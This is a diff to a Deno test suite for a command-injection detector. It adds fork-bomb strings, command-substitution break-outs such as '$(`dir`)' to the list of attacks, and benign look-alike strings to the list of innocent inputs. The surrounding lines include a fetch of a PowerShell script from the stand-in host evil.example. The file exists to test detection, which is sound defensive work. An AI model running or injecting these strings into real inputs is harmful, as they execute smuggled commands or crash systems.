@@ -54,9 +54,19 @@ const ATTACKS: readonly string[] = [
   "nohup ifconfig",
   "w'h'o'a'm'i';id",
   "&& iwr http://evil.example/a.ps1",
+  "pi$()ng 10.1.1.1",
+  "pi<()ng 10.1.1.1",
+  "$(`dir`)",
+  "$[2+2]",
+  ":(){ :|:& };:",
+  "f() { f & f; };f",
 ];
 
 const INNOCENT: readonly string[] = [
+  "new Map<string, () => void>()",
+  "const items = useState<Item[]>()",
+  "$[0] and $[1]",
+  "f() { return 1 | 2 }; g",
   "R&D; id cards are ready",
   "Tom & Jerry; who is who",
   "cats; dogs; more",
@@ -109,12 +119,12 @@ const INNOCENT: readonly string[] = [
 
 Deno.test("rce detects commands that break out of a value", () => {
   for (const text of ATTACKS) assert.equal(pointsIn(rce, text), 5, text);
-  assert.equal(ATTACKS.length, 50);
+  assert.equal(ATTACKS.length, 56);
 });
 
 Deno.test("rce lets honest text pass at level 1", () => {
   for (const text of INNOCENT.slice(0, -1)) assert.deepEqual(rulesIn(rce, text), [], text);
-  assert.equal(INNOCENT.length, 48);
+  assert.equal(INNOCENT.length, 52);
 });
 
 Deno.test("rce reports a command line without a break-out at level 2", () => {
